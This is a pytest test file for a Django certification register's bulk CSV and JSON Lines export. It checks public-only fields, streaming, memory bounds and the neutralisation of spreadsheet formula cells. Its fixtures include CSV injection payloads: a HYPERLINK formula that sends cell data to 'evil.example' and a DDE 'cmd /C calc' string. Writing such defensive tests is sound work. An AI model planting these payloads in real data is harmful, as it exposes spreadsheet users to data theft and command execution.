"""Bulk export of the public register: every certificate but drafts, as
CSV and JSON Lines, streamed in chunks; public fields only; the same content from the URL and
from ``apcert export``; memory bounded whatever the size of the register."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import gc
import importlib
import io
import json
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

import pytest
import time_machine
from django.apps import apps as django_apps
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apcert.applications.services import application_accept, application_submit, scope_line_add
from apcert.certificates.choices import PUBLIC_STATUSES
from apcert.certificates.models import Certificate, CertificateIssue, CertificateStatusChange
from apcert.certificates.selectors import certificate_status_on
from apcert.certificates.services import (
    NewScopeLine,
    certificate_extend_scope,
    certificate_grant,
    certificate_suspend,
)
from apcert.core.db import insert_rows
from apcert.demo.bulk import Clock, Table, reset_sequences
from apcert.demo.generate import demo_data_generate
from apcert.organizations.services import organization_create, site_create
from apcert.register import exports, selectors
from apcert.register.documents import certificate_document, document_on_day
from apcert.register.index import index_check
from apcert.register.models import SearchEntry
from apcert.schemes.models import ProcessCategory
from tests.factories import DAY0, World, make_user
from tests.flows_support import reported, visit

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _within_the_maximum_suspension() -> Iterator[None]:
    # The register shows a suspension that has run to the scheme's maximum as a withdrawal,
    # whatever the sweep has recorded: these tests read certificates suspended in June 2026
    # on a day when the suspension still holds.
    with time_machine.travel(dt.datetime(2026, 7, 1, 10, 0), tick=False):
        yield


GRANTED_ON = dt.date(2026, 3, 24)  # World.granted(): assessment ends DAY0 + 31, +40 days
EXPIRES_ON = dt.date(2029, 3, 23)  # three years, to the day before
SUSPENDED_ON = dt.date(2026, 6, 1)
SECRET = "secret complaint text from a competitor"
RATIONALE = "decision rationale, private"
CSV_URL = "/register/export.csv"
JSONL_URL = "/register/export.jsonl"


@dataclasses.dataclass
class Register:
    world: World
    suspended: Certificate  # with a scope line at an unpublished site, suspended on complaint
    french_world: World  # another holder (in FR), another CB
    french: Certificate
    draft: Certificate


def _suspended_with_unpublished_site(world: World) -> Certificate:
    app = world.draft_application(category="EPL")
    scope_line_add(
        actor=world.org_user,
        application=app,
        category=ProcessCategory.objects.get(code="PWB"),
        site=world.site2,
        wording="Printed boards, plating line",
        standards=("ISO 9001:2015",),
    )
    application_submit(actor=world.org_user, application=app, on=DAY0)
    app = application_accept(actor=world.team.manager, application=app)
    assessment = world.assessment(app, findings=("minor",))
    world.resolve_findings(assessment)
    cert = certificate_grant(
        actor=world.team.decision_maker,
        application=app,
        assessment=assessment,
        decided_on=GRANTED_ON,
        rationale=RATIONALE,
    )
    return certificate_suspend(
        actor=world.team.decision_maker,
        certificate=cert,
        reason_category="complaint",
        reason=SECRET,
        decided_on=SUSPENDED_ON,
    )


def _holder_elsewhere(country: str, name: str, city: str) -> World:
    """A new CB and a new holder in ``country`` with one published site."""
    world = World.build()
    user = make_user("holder")
    org = organization_create(
        actor=user, legal_name=name, country=country, registration_number=f"RCS {name[:3]} 1"
    )
    site = site_create(actor=user, organization=org, name="Works", city=city, country=country)
    return dataclasses.replace(world, org=org, org_user=user, site=site, site2=site)


def _draft(world: World) -> Certificate:
    """A certificate in draft, made directly (no service leaves one behind), with an issue."""
    app = world.accepted_application()
    draft = Certificate.objects.create(
        number=f"IECQ-A {world.team.cb.code} 26.0999",
        number_year=2026,
        number_serial=999,
        cb=world.team.cb,
        scheme=world.scheme,
        organization=world.org,
        application=app,
        status="draft",
        status_since=GRANTED_ON,
        first_issued_on=GRANTED_ON,
        initial_decision_on=GRANTED_ON,
        expires_on=EXPIRES_ON,
        current_issue_number=1,
    )
    template = CertificateIssue.objects.filter(certificate__organization=world.org).first()
    assert template is not None
    CertificateIssue.objects.create(
        certificate=draft,
        issue_number=1,
        issued_on=GRANTED_ON,
        valid_from=GRANTED_ON,
        valid_until=EXPIRES_ON,
        reason="initial",
        holder=template.holder,
        sites=template.sites,
        programmes=template.programmes,
        scope_lines=template.scope_lines,
        standards=template.standards,
    )
    return draft


@pytest.fixture
def register(world: World) -> Register:
    suspended = _suspended_with_unpublished_site(world)
    french_world = _holder_elsewhere("FR", "Lyon Circuits SA", "Lyon")
    french = french_world.granted(category="PWB")
    return Register(world, suspended, french_world, french, _draft(world))


def _body(response: Any) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def _csv_rows(text: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert tuple(header) == exports.CSV_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


# --- the two formats --------------------------------------------------------------------


def test_csv_has_one_row_per_public_certificate_with_exactly_its_public_values(
    register: Register, client: Client
) -> None:
    # when the CSV export is downloaded
    response = client.get(CSV_URL)
    # then it is a streamed attachment with a dated name, and no cookie is set
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="apcert-register-{today}.csv"'
    )
    assert not response.cookies
    text = _body(response)
    assert text.startswith(",".join(exports.CSV_COLUMNS) + "\r\n")
    rows = _csv_rows(text)
    # one row per public certificate, in the order they were made (the draft is not there)
    world = register.world
    code, french_code = world.team.cb.code, register.french.cb.code
    assert [row["number"] for row in rows] == [
        f"IECQ-A {code} 26.0001",
        f"IECQ-A {french_code} 26.0001",
    ]
    assert rows[0] == {
        "number": f"IECQ-A {code} 26.0001",
        "status": "suspended",
        "status_since": "2026-06-01",
        "status_reason_category": "complaint",
        "status_recorded": "true",
        "holder_name": world.org.legal_name,
        "holder_country": "DE",
        "scheme": "AP",
        "programmes": "AP",
        "categories": "EPL\nPWB",
        "scope": "EPL: EPL process at the main plant\nPWB: Printed boards, plating line",
        "standards": "ISO 9001:2015",
        "sites": "Main plant, Dresden, DE",
        "cb_code": code,
        "cb_name": f"Cert Body {code}",
        "first_issued_on": "2026-03-24",
        "issue_number": "1",
        "issued_on": "2026-03-24",
        "valid_from": "2026-03-24",
        "valid_until": "2029-03-23",
        "expires_on": "2029-03-23",
        "transferred_from": "",
        "transferred_from_url": "",
        "transferred_to": "",
        "transferred_to_url": "",
    }
    assert rows[1] == {
        **rows[1],
        "status": "current",
        "status_reason_category": "granted",
        "holder_name": "Lyon Circuits SA",
        "holder_country": "FR",
        "categories": "PWB",
        "scope": "PWB: PWB process at the main plant",
        "sites": "Works, Lyon, FR",
        "cb_code": french_code,
        "cb_name": f"Cert Body {french_code}",
    }


def test_each_jsonl_line_is_the_api_answer_for_that_certificate(
    register: Register, client: Client
) -> None:
    # when the JSON Lines export is downloaded
    response = client.get(JSONL_URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="apcert-register-{today}.jsonl"'
    )
    text = _body(response)
    # then each line is one certificate, exactly what the API answers for its number
    assert text.endswith("\n")
    lines = text.splitlines()
    numbers = [register.suspended.number, register.french.number]
    assert [json.loads(line)["number"] for line in lines] == numbers
    for line, number in zip(lines, numbers, strict=True):
        api = client.get(f"/api/public/certificates/{quote(number)}")
        assert api.status_code == 200
        assert json.loads(line) == api.json()
    assert json.loads(lines[0])["sites"] == [
        {
            "id": register.world.site.pk,
            "name": "Main plant",
            "address": "",
            "city": "Dresden",
            "country": "DE",
        }
    ]


def test_every_line_is_the_api_document_across_the_demo_data(reference: None) -> None:
    # given the demo data: every status, re-issues, renewals, transfers, many CBs
    report = demo_data_generate(certificates=60, seed=7)
    # then each JSON line is the document the API builds for that certificate
    lines = [json.loads(line) for text in exports.FORMATS["jsonl"].chunks(7) for line in
             text.splitlines()]  # fmt: skip
    numbers = Certificate.objects.exclude(status="draft").order_by("pk")
    assert [line["number"] for line in lines] == list(numbers.values_list("number", flat=True))
    assert len(lines) == report.certificates
    for line in lines:
        certificate = selectors.public_certificate(line["number"])
        assert certificate is not None
        today = certificate_status_on(certificate)
        assert line == document_on_day(certificate_document(certificate), today), line["number"]
    assert {line["issue_number"] for line in lines} >= {1, 2}
    assert {line["status"] for line in lines} == set(PUBLIC_STATUSES)


def test_the_csv_rows_the_index_keeps_are_the_rows_of_the_documents_of_the_day(
    reference: None,
) -> None:
    # given the demo data made up to the end of 2025 and read on 1 July 2026, so that the
    # calendar has changed statuses the register has not recorded
    demo_data_generate(certificates=60, seed=7, reference_date=dt.date(2025, 12, 31))
    export_format = exports.FORMATS["csv"]
    header = ",".join(exports.CSV_COLUMNS) + "\r\n"
    # then the CSV export is the row of each certificate's document of the day, whether the
    # index keeps the row (written with the certificate's last change) ...
    documents = [document for chunk in exports.public_documents(7) for document in chunk]
    assert {d["status_recorded"] for d in documents} == {True, False}
    made = header + "".join(exports.csv_line(document) for document in documents)
    assert "".join(export_format.chunks(7)) == made
    kept = dict(SearchEntry.objects.values_list("number", "csv_row"))
    assert None not in kept.values()
    # ... or holds none yet (an entry written before it kept rows)
    SearchEntry.objects.update(csv_row=None)
    assert "".join(export_format.chunks(7)) == made
    # and the rows kept are those of the documents kept
    for number, text in SearchEntry.objects.values_list("number", "document"):
        assert kept[number] == exports.csv_line(json.loads(text)), number


def test_a_certificate_is_exported_as_its_latest_issue_reads(
    register: Register, client: Client
) -> None:
    # given the French certificate's scope extended to electroplating (issue 2)
    french = register.french_world
    a = visit(french, register.french, "scope_extension")
    certificate_extend_scope(
        actor=french.team.decision_maker,
        certificate=register.french,
        assessment=a,
        new_scope_lines=[
            NewScopeLine(
                category="EPL", site=french.site, wording="Tin plating",
                standards=("ISO 9001:2015",),
            )
        ],
        decided_on=reported(a),
    )  # fmt: skip
    # then both exports give issue 2, with both scope lines
    row = _csv_rows(_body(client.get(CSV_URL)))[1]
    assert (row["issue_number"], row["issued_on"]) == ("2", reported(a).isoformat())
    assert row["categories"] == "PWB\nEPL"
    assert row["scope"] == "PWB: PWB process at the main plant\nEPL: Tin plating"
    line = _body(client.get(JSONL_URL)).splitlines()[1]
    assert json.loads(line)["issue_number"] == 2


@pytest.mark.parametrize("url", [CSV_URL, JSONL_URL])
def test_no_draft_nor_private_data_in_either_export(
    register: Register, client: Client, url: str
) -> None:
    text = _body(client.get(url))
    world = register.world
    assert register.draft.number not in text
    # then neither the unpublished site, nor free-text reasons, nor the private record
    # behind the certificate (people, findings, corrective actions, registration numbers)
    team = world.team
    private = [
        "Second plant",
        "Leipzig",
        SECRET,
        RATIONALE,
        "records incomplete",  # the findings' description
        "Checklist introduced",  # the corrective action
        "No checklist",
        world.org.registration_number,
        "RCS Lyo 1",
        *(u.full_name for u in (team.manager, team.lead, team.assessor, team.decision_maker)),
        *(u.username for u in (team.lead, team.assessor, world.org_user)),
    ]
    assert [word for word in private if word in text] == []
    assert "Main plant" in text  # the published site is there


def test_an_empty_register_gives_a_header_or_nothing(reference: None, client: Client) -> None:
    assert _body(client.get(CSV_URL)) == ",".join(exports.CSV_COLUMNS) + "\r\n"
    assert _body(client.get(JSONL_URL)) == ""


def test_head_gives_the_headers_alone_and_post_is_refused(
    register: Register, client: Client
) -> None:
    head = client.head(CSV_URL)
    assert head.status_code == 200
    assert head["Content-Type"] == "text/csv; charset=utf-8"
    assert b"".join(head.streaming_content) == b""
    assert client.post(JSONL_URL).status_code == 405


def test_queries_per_chunk_do_not_grow_with_the_chunk(register: Register) -> None:
    # given five public certificates (the draft aside)
    for _ in range(3):
        register.world.granted()
    assert Certificate.objects.exclude(status="draft").count() == 5

    def queries(chunk: int) -> tuple[int, int]:
        with CaptureQueriesContext(connection) as captured:
            rows = sum(n for n, _text in exports.csv_parts(chunk))
        return rows, len(captured)

    # then each chunk costs one query (the certificates with the documents the index keeps),
    # and one more query finds the end: chunks of 2, 2 and 1, or one chunk of 5
    assert queries(2) == (5, 3 + 1)
    assert queries(5) == (5, 1 + 1)
    texts = {name: "".join(f.chunks(2)) for name, f in exports.FORMATS.items()}

    # and where the index holds no entry for them, their documents are built from the
    # certificates, the same text: five queries a chunk more (their rows, latest issues,
    # reason categories, transfer links), and three (the CBs, the scheme and its rules)
    # the first time they are met
    SearchEntry.objects.all().delete()
    assert queries(2) == (5, (1 + 4) * 3 + 3 + 1)
    assert {name: "".join(f.chunks(2)) for name, f in exports.FORMATS.items()} == texts


def test_chunks_join_to_the_same_export_whatever_their_size(register: Register) -> None:
    register.world.granted()
    for name, export_format in exports.FORMATS.items():
        whole = "".join(export_format.chunks(100))
        assert "".join(export_format.chunks(1)) == whole, name
        assert len(list(export_format.chunks(1))) == (4 if name == "csv" else 3)


# --- apcert export --------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "url"), [("csv", CSV_URL), ("jsonl", JSONL_URL)])
def test_the_command_writes_the_same_content_as_the_url(
    register: Register,
    client: Client,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    name: str,
    url: str,
) -> None:
    # given an earlier export at the same place
    target = tmp_path / f"register.{name}"
    target.write_text("an older export\n", encoding="utf-8")
    out = io.StringIO()
    # when the command writes the export there
    call_command("export", format=name, output=target, stdout=out)
    # then the file holds exactly what the URL serves, and nothing else is left behind
    served = _body(client.get(url))
    assert target.read_bytes() == served.encode("utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]
    assert out.getvalue() == f"export: 2 certificates written to {target}\n"
    assert "2/2" in capsys.readouterr().err  # the progress bar


def test_the_command_writes_to_standard_output_without_a_file(
    register: Register, client: Client
) -> None:
    out = io.StringIO()
    call_command("export", format="csv", stdout=out)
    assert out.getvalue() == _body(client.get(CSV_URL))


def test_the_command_refuses_a_place_it_cannot_write_to(reference: None, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match=f"there is no directory {tmp_path / 'nowhere'}"):
        call_command("export", format="csv", output=tmp_path / "nowhere" / "register.csv")
    with pytest.raises(CommandError, match="is a directory; name a file"):
        call_command("export", format="jsonl", output=tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_an_interrupted_export_leaves_the_earlier_file_whole_and_no_part_file(
    register: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given an earlier export, and an export that is interrupted after its first chunk
    target = tmp_path / "register.csv"
    target.write_text("an older export\n", encoding="utf-8")
    seen: list[str] = []

    def interrupted(chunk: int) -> Iterator[tuple[int, str]]:
        for part in exports.csv_parts(chunk):
            yield part
            seen.append(part[1])
            # the part is on its way to disk, but not to the file's name
            assert target.read_text(encoding="utf-8") == "an older export\n"
            raise KeyboardInterrupt

    broken = dataclasses.replace(exports.FORMATS["csv"], parts=interrupted)
    monkeypatch.setitem(exports.FORMATS, "csv", broken)
    # when it runs
    with pytest.raises(KeyboardInterrupt):
        call_command("export", format="csv", output=target, quiet=True)
    # then the earlier file is untouched and no temporary file is left
    assert seen == [",".join(exports.CSV_COLUMNS) + "\r\n"]
    assert target.read_text(encoding="utf-8") == "an older export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["register.csv"]


# --- memory ---------------------------------------------------------------------------------

#: Snapshot content like a real issue's: two sites (one unpublished), two scope lines, two
#: standards. (Each JSON value read and written costs tracemalloc's bookkeeping: bigger
#: snapshots would only make the test slower, not the measure better.)
_SITES = [
    {"id": 9001, "name": "Plant North", "address": "1 Foundry Road", "city": "Essen",
     "country": "DE", "published": True},
    {"id": 9002, "name": "Hidden lab", "address": "3 Quiet Lane", "city": "Ulm",
     "country": "DE", "published": False},
]  # fmt: skip
_LINES = [
    {"category": code, "category_name": f"{code} processes", "site_id": site,
     "site_name": name, "wording": f"{code} work on printed boards for industrial control "
     "units, including inspection and release", "standards": ["ISO 9001:2015"]}
    for code, site, name in (("PWB.PLT", 9001, "Plant North"), ("EPL.SN", 9002, "Hidden lab"))
]  # fmt: skip
_STANDARDS = [
    {"designation": "IEC 61340-5-1", "edition": "2016", "title": "Electrostatics - Part 5-1"},
    {"designation": "ISO 9001", "edition": "2015", "title": "Quality management systems"},
]
_PROGRAMMES = [{"code": "AP", "name": "IECQ Approved Process (general)"}]


def _add_certificates(template: Certificate, start: int, count: int) -> None:
    """Write ``count`` more public certificates like ``template`` (same CB, holder and
    application) in bulk, each with one issue and its grant, and every tenth suspended:
    the demo data's fast path (apcert.demo.bulk), a few seconds for 100,000."""
    certificates = Table(
        Certificate,
        ("id", "number", "number_year", "number_serial", "cb", "scheme", "organization",
         "application", "status", "status_since", "first_issued_on", "initial_decision_on",
         "expires_on", "current_issue_number", "transferred_from", "surveillance_due_by",
         "lapses_on"),
    )  # fmt: skip
    issues = Table(
        CertificateIssue,
        ("certificate", "issue_number", "issued_on", "valid_from", "valid_until", "reason",
         "change_summary", "decision", "holder", "sites", "programmes", "scope_lines",
         "standards", "created_at"),
    )  # fmt: skip
    changes = Table(
        CertificateStatusChange,
        ("certificate", "from_status", "to_status", "effective_on", "reason_category",
         "reason", "decision", "recorded_at"),
    )  # fmt: skip
    clock = Clock()
    day = GRANTED_ON.isoformat()
    moment = clock.moment(GRANTED_ON.toordinal(), 9 * 3600)
    sites, lines = json.dumps(_SITES), json.dumps(_LINES)
    programmes, standards = json.dumps(_PROGRAMMES), json.dumps(_STANDARDS)
    first_id = (Certificate.objects.order_by("-pk").values_list("pk", flat=True).first() or 0) + 1
    cb = template.cb
    for serial in range(start, start + count):
        pk = first_id + serial - start
        suspended = serial % 10 == 0
        holder = json.dumps(
            {"name": f"Holder {serial} GmbH", "country": "DE",
             "registration_number": f"HRB {serial}", "registration_authority": "Amtsgericht"}
        )  # fmt: skip
        certificates.rows.append(
            (pk, f"IECQ-A {cb.code} 25.{serial:06d}", 2025, serial, cb.pk, template.scheme_id,
             template.organization_id, template.application_id,
             "suspended" if suspended else "current", day, day, day,
             EXPIRES_ON.isoformat(), 1, None, None, None)
        )  # fmt: skip
        issues.rows.append(
            (pk, 1, day, day, EXPIRES_ON.isoformat(), "initial", "initial certification",
             None, holder, sites, programmes, lines, standards, moment)
        )  # fmt: skip
        changes.rows.append((pk, "draft", "current", day, "granted", RATIONALE, None, moment))
        if suspended:
            changes.rows.append(
                (pk, "current", "suspended", day, "complaint", SECRET, None, moment)
            )
        if len(certificates.rows) >= 20_000:
            _write(certificates, issues, changes)
    _write(certificates, issues, changes)
    reset_sequences([certificates])


def _write(*tables: Table) -> None:
    for table in tables:
        insert_rows(table.name, table.columns, table.take())


def _peak_while_downloading(client: Client, url: str) -> tuple[int, int, int]:
    """Download ``url`` to nowhere; return the peak of memory allocated meanwhile (traced
    by tracemalloc, in bytes), the bytes received and the CSV records (header included)."""
    gc.collect()
    tracemalloc.start()
    try:
        received = records = 0
        response = client.get(url)
        # (the test client closes the response once its content is read)
        for part in response.streaming_content:
            received += len(part)
            records += part.count(b"\r\n")  # cells break lines with "\n" alone
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, received, records


#: The most an export may allocate at once, whatever the size of the register (measured:
#: about 10 MiB with chunks of 500 certificates).
MEMORY_BOUND = 32 * 2**20


def test_export_streams_in_bounded_memory_as_the_register_grows_tenfold(
    world: World, client: Client
) -> None:
    # given a register of 2,000 certificates (four chunks)
    template = world.granted()
    _add_certificates(template, 1, 1_999)
    assert Certificate.objects.exclude(status="draft").count() == 2_000
    # (once through the whole path first, so that what a first request loads and keeps,
    # such as the URLconf and its imports, is not counted as the export's)
    for _part in client.get(CSV_URL).streaming_content:
        pass
    # when the export is downloaded, the memory it takes at its peak is measured
    small, small_bytes, small_records = _peak_while_downloading(client, CSV_URL)
    assert small_records == 1 + 2_000
    # and again once the register holds ten times as many
    _add_certificates(template, 2_000, 18_000)
    assert Certificate.objects.exclude(status="draft").count() == 20_000
    large, large_bytes, large_records = _peak_while_downloading(client, CSV_URL)
    assert large_records == 1 + 20_000
    assert large_bytes > 9 * small_bytes  # ten times the data went through
    print(  # shown with -s: the figures behind the assertions
        f"\nexport peak memory: {small / 2**20:.1f} MiB for 2,000 certificates "
        f"({small_bytes / 2**20:.0f} MiB sent), {large / 2**20:.1f} MiB for 20,000 "
        f"({large_bytes / 2**20:.0f} MiB sent); ratio {large / small:.2f}"
    )
    # then the peak stays under a fixed bound and does not grow with the register
    assert large < MEMORY_BOUND
    assert large / small < 1.5


# --- cells a spreadsheet would run as formulas ------------------------------------------------

FORMULA = '{start}HYPERLINK("http://evil.example/?x="&A1,"click")'


def _holder_named_like_a_formula(start: str) -> tuple[World, Certificate]:
    """A holder, its site and the site's city each named as a formula beginning with
    ``start``, with a certificate."""
    world = World.build()
    user = make_user("holder")
    org = organization_create(
        actor=user, legal_name=FORMULA.format(start=start), country="FR", registration_number="1"
    )
    site = site_create(
        actor=user,
        organization=org,
        name=f"{start}1+1",
        city=f"{start}cmd|' /C calc'!A0",
        country="FR",
    )
    world = dataclasses.replace(world, org=org, org_user=user, site=site, site2=site)
    return world, world.granted(category="PWB")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_holder_and_site_named_like_formulas_are_text_in_the_csv_export(
    world: World, client: Client, start: str
) -> None:
    # given a certificate whose holder, site and city begin like a formula
    _world, cert = _holder_named_like_a_formula(start)
    holder = FORMULA.format(start=start)
    # when the register is exported, over HTTP and by the command
    served = _body(client.get(CSV_URL))
    out = io.StringIO()
    call_command("export", format="csv", stdout=out)
    # then both carry the cells with a leading quote, and no cell begins like a formula
    assert out.getvalue() == served
    rows = {row["number"]: row for row in _csv_rows(served)}
    row = rows[cert.number]
    assert row["holder_name"] == "'" + holder
    assert row["sites"] == f"'{start}1+1, {start}cmd|' /C calc'!A0, FR"
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # the row the index keeps is the neutralised one, and a row made at export time too
    kept = SearchEntry.objects.get(certificate=cert).csv_row
    quoted = holder.replace('"', '""')
    assert kept is not None and f',"\'{quoted}",FR,' in kept
    SearchEntry.objects.update(csv_row=None)
    assert _body(client.get(CSV_URL)) == served


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_that_begins_like_a_formula_gets_a_leading_quote(
    register: Register, start: str
) -> None:
    # (the services strip names, so a leading tab or carriage return is put in the
    # document itself)
    document = json.loads(SearchEntry.objects.get(certificate=register.french).document)
    document["holder"]["name"] = f"{start}SUM(A1:A9)"
    document["status_reason_category"] = f"{start}x"
    (row,) = list(csv.reader(io.StringIO(exports.csv_line(document), newline="")))
    cells = dict(zip(exports.CSV_COLUMNS, row, strict=True))
    assert cells["holder_name"] == f"'{start}SUM(A1:A9)"
    assert cells["status_reason_category"] == f"'{start}x"
    # and a cell that does not begin like one is as it was
    assert cells["holder_country"] == "FR" and cells["number"] == register.french.number


def test_the_migration_quotes_the_formula_cells_of_rows_kept_before_it(world: World) -> None:
    # given rows kept before cells were quoted: one with a formula cell, and ordinary ones
    _world, evil = _holder_named_like_a_formula("=")
    plain = world.granted()
    fresh = dict(SearchEntry.objects.values_list("certificate_id", "csv_row"))
    unquoted = {pk: str(text).replace(",\"'=", ',"=') for pk, text in fresh.items()}
    assert unquoted[evil.pk] != fresh[evil.pk] and unquoted[plain.pk] == fresh[plain.pk]
    for pk, text in unquoted.items():
        SearchEntry.objects.filter(certificate_id=pk).update(csv_row=text)
    assert index_check() == [f"{evil.number}: csv_row differs"]
    migration = importlib.import_module("apcert.register.migrations.0010_csv_row_formula_cells")
    editor = SimpleNamespace(connection=connection)
    # when the migration runs, a chunk at a time (two, to cross a chunk's end)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(migration, "CHUNK", 1)
        migration.quote_formula_cells(django_apps, editor)
    # then the rows are those a fresh build writes, and a second run changes nothing
    assert dict(SearchEntry.objects.values_list("certificate_id", "csv_row")) == fresh
    assert index_check() == []
    migration.quote_formula_cells(django_apps, editor)
    assert dict(SearchEntry.objects.values_list("certificate_id", "csv_row")) == fresh
